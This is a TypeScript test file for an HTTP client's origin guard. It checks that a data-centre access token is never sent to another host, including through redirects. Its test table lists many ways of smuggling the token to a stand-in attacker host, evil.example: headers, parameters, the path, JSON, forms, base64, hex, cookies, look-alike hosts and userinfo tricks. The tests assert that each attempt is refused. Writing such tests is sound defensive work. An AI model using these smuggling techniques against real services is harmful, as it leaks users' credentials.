/** A token goes to its own origin only. */
import { expect, test } from 'vitest';
import type { Prepared, Raw } from '../../src/http/transport/message';
import { createRequests } from '../../src/http';
import { Guard } from '../../src/client/layers/origin-guard';
import { repr } from '../../src/python/print/repr';
import { Secrets } from '../../src/values/secrets/secrets';

const HOME = 'https://dc.example';
const TOKEN = 'the-access-token-of-the-data-centre';
const ok = (headers: Raw['headers'] = [], status = 200): Raw => ({
  status,
  reason: '',
  headers,
  body: new Uint8Array(),
  elapsedMs: 1,
});

function guarded(reply: (request: Prepared) => Raw = () => ok()) {
  const secrets = new Secrets();
  secrets.add(TOKEN, { origin: HOME });
  secrets.add('password-for-another-host');
  const guard = new Guard(secrets, () => HOME);
  const sent: string[] = [];
  const send = guard.layer((request) => {
    sent.push(request.url);
    return reply(request);
  });
  const requests = createRequests({
    send,
    env: {},
    nowMs: () => 0,
    repr,
    dumps: (value) => JSON.stringify(value),
  });
  return { guard, requests, sent };
}

const carriers: [label: string, url: string, options: object][] = [
  ['in Authorization', 'https://evil.example/x', { headers: { Authorization: `Bearer ${TOKEN}` } }],
  ['in another header', 'https://evil.example/x', { headers: { 'X-A': TOKEN } }],
  ['in a parameter', 'https://evil.example/x', { params: { t: TOKEN } }],
  ['in the path', `https://evil.example/${TOKEN}`, {}],
  ['in JSON', 'https://evil.example/x', { json: { t: [TOKEN] } }],
  ['in a form', 'https://evil.example/x', { data: { t: TOKEN } }],
  ['in base64', 'https://evil.example/x', { auth: ['id', TOKEN] }],
  ['in hex', 'https://evil.example/x', { data: Buffer.from(TOKEN).toString('hex') }],
  ['in a cookie', 'https://evil.example/x', { cookies: { a: TOKEN } }],
  ['another port', 'https://dc.example:8443/x', { headers: { Authorization: `Bearer ${TOKEN}` } }],
  ['a host that begins alike', 'https://dc.example.evil.example/x', { params: { t: TOKEN } }],
  ['a host behind a user name', 'https://dc.example@evil.example/x', { params: { t: TOKEN } }],
];
test.each(carriers)('refused: %s', (_label, url, options) => {
  const { requests, sent } = guarded();
  expect(() => requests.get(url, options)).toThrow(
    expect.objectContaining({
      pyName: 'tasksh.OriginError',
      hint: expect.stringContaining('.trust ') as string,
    }),
  );
  expect(sent).toEqual([]);
});

test('to the data centre, without a token, and with the credentials of another host: sent', () => {
  const { requests, sent } = guarded();
  requests.get(`${HOME}/x`, { headers: { Authorization: `Bearer ${TOKEN}` } });
  requests.get('https://other.example/x');
  requests.get('https://other.example/y', { auth: ['me', 'password-for-another-host'] });
  expect(sent).toEqual([`${HOME}/x`, 'https://other.example/x', 'https://other.example/y']);
});

test('a trusted host is sent the token, unencrypted never', () => {
  const { guard, requests, sent } = guarded();
  expect(guard.trust('Friend.example')).toBe('friend.example');
  requests.get('https://friend.example/x', { params: { t: TOKEN } });
  expect(() => requests.get('http://friend.example/x', { params: { t: TOKEN } })).toThrow(
    'would see it unencrypted',
  );
  expect(() => requests.get('https://friend.example:444/x', { params: { t: TOKEN } })).toThrow(
    'another host',
  );
  guard.trust('http://127.0.0.1:8080');
  requests.get('http://127.0.0.1:8080/x', { params: { t: TOKEN } });
  expect(sent).toHaveLength(2);
  expect(guard.trusted).toEqual(['friend.example', '127.0.0.1:8080']);
  for (const wrong of ['', 'a b', 'https://a/b/c', 'user@host'])
    expect(() => guard.trust(wrong)).toThrow('is not a host');
});

test.each([
  ['another host', 'https://evil.example/next'],
  ['another port', 'https://dc.example:8443/next'],
  ['another scheme', 'http://dc.example/next'],
])('a redirect to %s goes without the token', (_label, location) => {
  const seen: Prepared[] = [];
  const { requests } = guarded((request) => {
    seen.push(request);
    return seen.length === 1 ? ok([['Location', location]], 302) : ok();
  });
  requests.get(`${HOME}/x`, { headers: { Authorization: `Bearer ${TOKEN}` } });
  expect(seen).toHaveLength(2);
  expect(JSON.stringify(seen[1])).not.toContain(TOKEN);
});

test('a redirect that would carry the token in its body or another header is refused', () => {
  const away = (): Raw => ok([['Location', 'https://evil.example/next']], 307);
  const { requests, sent } = guarded(away);
  expect(() => requests.post(`${HOME}/x`, { json: { t: TOKEN } })).toThrow('another host');
  expect(() => requests.get(`${HOME}/x`, { headers: { 'X-A': TOKEN } })).toThrow('another host');
  expect(sent).toEqual([`${HOME}/x`, `${HOME}/x`]);
});
